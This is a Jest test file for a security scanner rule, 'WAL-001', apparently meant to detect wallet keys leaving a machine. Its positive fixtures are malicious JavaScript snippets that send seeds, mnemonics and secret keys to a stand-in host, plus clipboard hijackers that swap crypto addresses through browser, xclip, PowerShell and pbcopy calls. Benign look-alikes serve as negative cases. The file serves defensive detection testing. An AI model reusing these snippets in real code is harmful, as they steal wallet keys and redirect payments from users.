import { describe, expect, it } from '@jest/globals';
import { hitsOf, js } from '../testing/hits-of.ts';

const found = [
  [
    'a seed in a header',
    `function checkSeed(seed) { fetch('https://a.example.invalid/xc', { method: 'POST', headers: { 'ad-referral': seed } }); }
     class Wallet { static fromSeed(seed) { checkSeed(seed); return derive(seed); } }`,
  ],
  [
    'a secret key, encoded',
    `const bs58 = require('bs58'); const queue = (keypair) => fetch('https://a.example.invalid/?k=' + Buffer.from(keypair.secretKey).toString('base64'));`,
  ],
  [
    'a mnemonic in the body',
    `const axios = require('axios'); module.exports = (mnemonic) => { const data = { m: mnemonic }; return axios.post('https://a.example.invalid', data); };`,
  ],
  [
    'pieces of a secret key, by a helper of the constructor',
    `class Keypair { constructor(secretKey) { this.secretKey = secretKey; report(secretKey); } }
     function report(b) { fetch('https://a.example.invalid', { headers: { a: b.slice(0, 32), b: b.slice(32) } }); }`,
  ],
  [
    'another address on the clipboard',
    `const eth = /0x[a-fA-F0-9]{40}/; setInterval(async () => { const t = await navigator.clipboard.readText(); if (eth.test(t)) await navigator.clipboard.writeText(t.replace(eth, mine)); }, 500);`,
  ],
  [
    'another address on the clipboard, by programs of the system',
    `const cp = require('child_process'); const re = /^0x[0-9a-fA-F]{40}$/;
     setInterval(() => { const c = cp.execSync('xclip -selection clipboard -o').toString(); if (re.test(c)) cp.execSync('xclip -selection clipboard', { input: mine }); }, 900);`,
  ],
  [
    'another address on the clipboard of Windows',
    `const { spawnSync } = require('child_process'); function tick() { const now = spawnSync('powershell', ['-c', 'Get-Clipboard']).stdout + ''; if (/bc1[a-z0-9]{39}/.test(now)) spawnSync('powershell', ['-c', 'Set-Clipboard -Value ' + own]); } setInterval(tick, 1e3);`,
  ],
  [
    'a swap through pipes of the shell',
    `import { exec } from 'node:child_process'; const kinds = [/^0x[a-fA-F0-9]{40}$/]; const watch = () => exec('pbpaste', (e, out) => { if (kinds.some((k) => k.test(out))) exec('echo ' + target + ' | pbcopy'); }); setInterval(watch, 500);`,
  ],
  [
    'a key in pieces, where only the library tells what it is',
    `const nacl = require('tweetnacl'); class Account { constructor(secretKey) { this.k = nacl.sign.keyPair.fromSecretKey(secretKey); note(secretKey); } }
     function note(d) { const b = Buffer.from(d).toString('hex'); fetch('https://a.example.invalid/', { headers: { 'x-one': b.slice(0, 64), 'x-two': b.slice(64) } }); } exports.Account = Account;`,
  ],
] as const;

const passed = [
  [
    'a signature',
    `module.exports = (wallet, privateKey, tx) => fetch('https://rpc.example.invalid', { method: 'POST', body: JSON.stringify({ tx: sign(tx, privateKey) }) });`,
  ],
  [
    'the secret key of a captcha',
    `module.exports = (secretKey, token) => fetch('https://captcha.example.invalid/verify', { method: 'POST', body: 'secret=' + secretKey });`,
  ],
  [
    'a node the user names',
    `module.exports = (url, mnemonic) => fetch(url, { method: 'POST', body: mnemonic });`,
  ],
  [
    'a button that copies an address',
    `const eth = /0x[a-fA-F0-9]{40}/; button.onclick = () => navigator.clipboard.writeText(address);`,
  ],
  [
    'a manager of the clipboard',
    `const cp = require('child_process'); exports.read = () => cp.execSync('pbpaste').toString(); exports.write = (t) => cp.execSync('pbcopy', { input: t });`,
  ],
  [
    'a wallet that copies its own address',
    `const cp = require('child_process'); const re = /^0x[0-9a-fA-F]{40}$/; exports.copy = (a) => { if (re.test(a)) cp.execSync('pbcopy', { input: a }); };`,
  ],
  [
    'a public key, of a library',
    `const nacl = require('tweetnacl'); exports.tell = (pair) => fetch('https://a.example.invalid/', { method: 'POST', body: Buffer.from(pair.publicKey).toString('hex') });`,
  ],
] as const;

describe('WAL-001 the key of a wallet leaves the machine', () => {
  it.each(found)('finds %s', (_name, source) => {
    expect(hitsOf('WAL-001', js(source))).toEqual(['critical index.js']);
  });

  it.each(passed)('passes %s', (_name, source) => {
    expect(hitsOf('WAL-001', js(source))).toEqual([]);
  });
});
